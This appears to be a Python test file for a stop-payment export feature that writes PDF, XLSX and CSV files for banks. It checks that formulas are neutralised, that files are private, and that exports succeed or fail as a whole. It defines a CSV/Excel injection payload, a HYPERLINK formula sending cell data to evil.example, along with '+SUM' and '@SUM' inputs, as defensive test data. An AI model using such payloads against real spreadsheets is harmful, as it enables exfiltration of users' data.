"""The files sent to banks for a stop-payment: no live formula, user-only, all three or none, issued only then."""

from __future__ import annotations

import csv
import os
import stat

import pytest
from openpyxl import load_workbook

from console.models.stoppay import requests as stoppay
from console.models.calls.source import manual_call
from console.models.calls.records import start_call
from console.models.stoppay.export import export_again, issue_and_export

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
CARD = "6217001234567890122"          # CCB, valid Luhn


def draft_request(db, officer, clock, *, victim_name="何敏", holder=HYPERLINK):
    call_id = start_call(db, officer, manual_call("13971234567"), clock=clock)
    rid = stoppay.create_request_from_call(db, officer, call_id, clock=clock)
    form = {"victim": {"name": victim_name, "id_number": "420902198503120028", "phone": "13971234567",
                       "account": "6228480000000000000", "account_kind": "bank_card"},
            "accounts": [{"number": CARD, "kind": "bank_card", "holder": holder, "amount": "", "status": "pending"}],
            "transfers": [{"time": "13:05", "amount": "20000", "channel": "mobile_banking", "serial": "@SUM(1+1)",
                           "to": CARD}]}
    assert stoppay.save_form(db, officer, rid, form, clock=clock) == {}
    return rid, form


@pytest.fixture
def out(tmp_path):
    folder = tmp_path / "exports"
    folder.mkdir()
    return folder


@pytest.fixture
def write_pdf(qapp):
    from console.ui.stoppay.pdf import write_form_pdf

    return write_form_pdf


def _status(db, rid):
    return db.execute("SELECT status FROM stop_requests WHERE id = ?", [rid]).fetchone()[0]


def test_a_formula_from_a_platform_file_reaches_the_bank_as_text(db, officer, clock, tmp_path, write_pdf):
    rid, form = draft_request(db, officer, clock, victim_name="+SUM(A1:A9)")
    pdf, xlsx, csv_path = issue_and_export(db, officer, rid, form, tmp_path, clock=clock, write_pdf=write_pdf)

    ws = load_workbook(xlsx).active
    header = [c.value for c in ws[1]]
    cells = {h: c for h, c in zip(header, ws[2])}
    assert cells["止付账户户名"].value == HYPERLINK and cells["止付账户户名"].data_type == "s"
    assert cells["止付账户户名"].quotePrefix
    assert cells["受害人姓名"].value == "+SUM(A1:A9)" and cells["受害人姓名"].data_type == "s"
    assert cells["交易流水号"].value == "@SUM(1+1)"
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)

    with csv_path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows[0]["止付账户户名"] == "'" + HYPERLINK
    assert rows[0]["受害人姓名"] == "'+SUM(A1:A9)"
    assert rows[0]["交易流水号"] == "'@SUM(1+1)"
    assert rows[0]["止付账号"] == CARD and rows[0]["转出金额"] == "20000.00"    # numbers stay numbers
    assert rows[0]["受害人电话"] == "13971234567"
    # What the officer sees on screen is unchanged.
    assert stoppay.load_form(db, rid)["accounts"][0]["holder"] == HYPERLINK


def test_issued_files_are_private_and_complete(db, officer, clock, out, write_pdf):
    rid, form = draft_request(db, officer, clock)
    files = issue_and_export(db, officer, rid, form, out, clock=clock, write_pdf=write_pdf)
    assert _status(db, rid) == "issued"
    for path in files:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
        assert path.stat().st_size > 0
    assert files[0].read_bytes().startswith(b"%PDF")
    assert sorted(p.name for p in out.iterdir()) == sorted(p.name for p in files)   # no temporary left


def test_a_folder_failing_midway_leaves_a_draft_and_no_file(db, officer, clock, out, write_pdf):
    rid, form = draft_request(db, officer, clock)
    no = db.execute("SELECT request_no FROM stop_requests WHERE id = ?", [rid]).fetchone()[0]
    (out / f"{no}.csv").mkdir()          # a folder squatting the CSV's name: the third file fails
    with pytest.raises(OSError):
        issue_and_export(db, officer, rid, form, out, clock=clock, write_pdf=write_pdf)
    assert _status(db, rid) == "draft"
    assert db.execute("SELECT issued_at FROM stop_requests WHERE id = ?", [rid]).fetchone()[0] is None
    assert [p.name for p in out.iterdir()] == [f"{no}.csv"]          # nothing else, no 0-byte PDF
    assert not db.execute("SELECT 1 FROM audit_log WHERE action = 'issue'").fetchall()
    assert stoppay.load_form(db, rid)["accounts"][0]["number"] == CARD          # the draft is all there

    (out / f"{no}.csv").rmdir()
    files = issue_and_export(db, officer, rid, form, out, clock=clock, write_pdf=write_pdf)
    assert _status(db, rid) == "issued" and all(p.stat().st_size > 0 for p in files)


@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0, reason="root writes into read-only folders")
def test_a_read_only_folder_leaves_a_draft(db, officer, clock, tmp_path, write_pdf):
    rid, form = draft_request(db, officer, clock)
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        with pytest.raises(OSError):
            issue_and_export(db, officer, rid, form, folder, clock=clock, write_pdf=write_pdf)
    finally:
        folder.chmod(0o700)
    assert _status(db, rid) == "draft" and list(folder.iterdir()) == []


def test_an_issued_request_is_exported_again(db, officer, clock, out, write_pdf):
    rid, form = draft_request(db, officer, clock)
    first_folder = out / "first"
    first_folder.mkdir()
    first = issue_and_export(db, officer, rid, form, first_folder, clock=clock, write_pdf=write_pdf)
    clock.advance(hours=2)
    again = export_again(db, officer, rid, out, clock=clock, write_pdf=write_pdf)
    assert [p.name for p in again] == [p.name for p in first]
    # The same issuing time, not the time of the second export.
    assert again[2].read_text(encoding="utf-8-sig") == first[2].read_text(encoding="utf-8-sig")
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in again)
    assert db.execute("SELECT username FROM audit_log WHERE action = 'export' AND table_name = 'stop_requests'"
                      ).fetchall() == [(officer.username,)]
    draft, _ = draft_request(db, officer, clock)
    with pytest.raises(ValueError):
        export_again(db, officer, draft, out, clock=clock, write_pdf=write_pdf)
